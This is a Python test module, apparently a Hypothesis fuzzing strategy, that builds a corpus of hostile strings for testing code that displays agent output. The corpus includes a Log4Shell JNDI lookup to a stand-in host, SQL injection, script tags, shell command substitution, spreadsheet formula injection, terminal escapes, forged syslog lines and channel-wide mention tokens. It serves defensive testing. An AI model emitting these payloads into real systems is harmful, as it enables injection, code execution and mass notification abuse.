"""Texts that agents may say to break what shows them, for tests of everything that does."""

from __future__ import annotations

from hypothesis import strategies as st

CORPUS = [
    "<!channel>", "<!here|x>", "<@U024BE7LH>", "<#C024BE7LR|general>", "<https://evil.example|click>", "@everyone",
    "@here", "<@&1234>", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "*bold* _it_ ~no~ `code` ```x```",
    "[click](https://evil.example)", "![x](https://evil.example/x.png)", "https://evil.example/?a=b",
    "www.evil.example",
    "mailto:a@evil.example", "javascript:alert(1)", ":skull: :evil:", "||spoiler||", "# heading", "> quote",
    "<\u200b!channel>", "\u200b@\u200beveryone", "\u202eevil\u202c", "\u2066x\u2069", "\ufeff", "\u00ad", "a\u0000b",
    "\x1b[2J\x1b[31m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\r\n<14>1 - - forged - - -",
    "line\nline\u2028x\u2029",
    '"] [forged@1 a="b', "\\", '\\"', "]", '"', "\\]", "%s%n${jndi:ldap://evil.example/a}", "'; DROP TABLE alerts; --",
    "<script>alert(1)</script>", "\u0085", "\x7f", "\x9b31m", "\U0001d54f" * 300,
    "é" * 5000, "x" * 20_000, "", " ", "👩‍👩‍👧‍👦",
    '{"seq":1}', "\t", "\uff1c!channel\uff1e", "$(id)", "=cmd|' /C calc'!A0",
]  # fmt: skip

LETTERS = st.characters(exclude_categories=["Cs"])  # what JSON cannot carry cannot come
HOSTILE = st.one_of(
    st.sampled_from(CORPUS),
    st.text(LETTERS, max_size=400),
    st.lists(st.sampled_from(CORPUS), min_size=2, max_size=4).map("".join),
)
